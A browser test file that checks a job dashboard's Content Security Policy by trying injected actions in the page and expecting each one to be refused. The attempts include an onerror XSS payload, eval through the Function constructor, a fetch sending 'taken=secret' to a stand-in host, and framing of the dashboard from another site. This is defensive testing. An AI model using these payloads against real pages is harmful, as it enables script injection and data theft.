// What the page may not do even if a fault of it let a stranger's words in: each of these is tried in the page itself, and refused.
import { afterAll, beforeAll, expect, test } from "bun:test"
import type { Page } from "playwright-core"
import { type Gateway, launch } from "../harness.ts"
import { describeInBrowser, PATIENCE_MS, visit } from "./stage.ts"

let gateway: Gateway
beforeAll(async () => {
  gateway = await launch()
}, PATIENCE_MS)
afterAll(() => gateway.dispose())

interface Attempt {
  page: Page
  /** The directive of the policy that refused it. */
  refused: string
  result: unknown
}

/** Tries something in the page; what the policy reported of it, and what came of it. */
async function attempt(deed: () => unknown): Promise<Attempt> {
  const { page } = await visit(`${gateway.url}/ui/jobs`)
  await page.getByText("There are no jobs yet").waitFor()
  const found = await page.evaluate<Omit<Attempt, "page">>(`new Promise((resolve) => {
    let result
    addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
      // What came of it is known once the deed has returned.
      Promise.resolve(result).catch(String).then((result) => resolve({ refused: effectiveDirective, result }))
    }, { once: true })
    // As the page's own work: what the debugger runs may make code of words.
    result = new Promise((resolve) => requestAnimationFrame(() => resolve((async () => (${deed.toString()})())().catch(String))))
  })`)
  return { page, ...found }
}

describeInBrowser("the page refuses", () => {
  test("a text that becomes HTML", async () => {
    const { refused, result } = await attempt(() => {
      document.createElement("div").innerHTML = "<img src=x onerror=alert(1)>"
    })
    expect(refused).toBe("require-trusted-types-for")
    expect(String(result)).toContain("TypeError")
  })

  test("a policy that would allow that", async () => {
    const { refused } = await attempt(() => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): void }
      }
      trustedTypes.createPolicy("mine", {})
    })
    expect(refused).toBe("trusted-types")
  })

  test("a script that stands in the page, and one of an attribute", async () => {
    const inline = await attempt(() => {
      const script = document.createElement("script")
      script.append("window.didRun = true")
      document.head.append(script)
      return "didRun" in window
    })
    expect(inline.refused).toMatch(/^(script-src-elem|require-trusted-types-for)$/)
    expect(inline.result).not.toBe(true)
  })

  test("words that become code", async () => {
    const { refused, result } = await attempt(() => Reflect.construct(Function, ["return 1 + 1"])())
    expect(refused).toMatch(/^(script-src|require-trusted-types-for)$/)
    expect(result).not.toBe(2)
  })

  test("a style in an attribute", async () => {
    const { page, refused } = await attempt(() => document.body.setAttribute("style", "display: none"))
    expect(refused).toBe("style-src-attr")
    expect(await page.locator("body").isVisible()).toBe(true)
  })

  test("a request to another host, a frame, and a form that is sent", async () => {
    const elsewhere = await attempt(() =>
      fetch("http://127.0.0.1:9/?taken=secret").then(({ status }) => String(status)),
    )
    expect(elsewhere.refused).toBe("connect-src")
    expect(elsewhere.result).toContain("TypeError")
    const framed = await attempt(() => {
      const frame = document.createElement("iframe")
      frame.src = "http://127.0.0.1:9/"
      document.body.append(frame)
    })
    expect(framed.refused).toBe("frame-src")
    const sent = await attempt(() => {
      const form = document.createElement("form")
      form.action = "http://127.0.0.1:9/"
      document.body.append(form)
      form.submit()
    })
    expect(sent.refused).toBe("form-action")
  })

  test("a picture of another host, which would tell it who looks", async () => {
    const { refused } = await attempt(() => {
      new Image().src = "http://127.0.0.1:9/seen.png"
    })
    expect(refused).toBe("img-src")
  })
})

describeInBrowser("a page of another site", () => {
  test("can neither frame the dashboard nor read what the gateway tells", async () => {
    const other = Bun.serve({
      hostname: "127.0.0.1",
      port: 0,
      fetch: () =>
        new Response(`<!doctype html><title>other</title><iframe src="${gateway.url}/ui"></iframe>`, {
          headers: { "content-type": "text/html" },
        }),
    })
    try {
      const opened = await visit(`http://localhost:${other.port}/`)
      const framed = opened.page.frames().find((frame) => frame !== opened.page.mainFrame())
      expect(await framed?.locator("main").count()).toBe(0)
      const read = await opened.page.evaluate(
        (url) => fetch(`${url}/v1/async/jobs`).then(({ status }) => `read: ${status}`, String),
        gateway.url,
      )
      expect(read).toContain("TypeError")
    } finally {
      await other.stop(true)
    }
  })
})
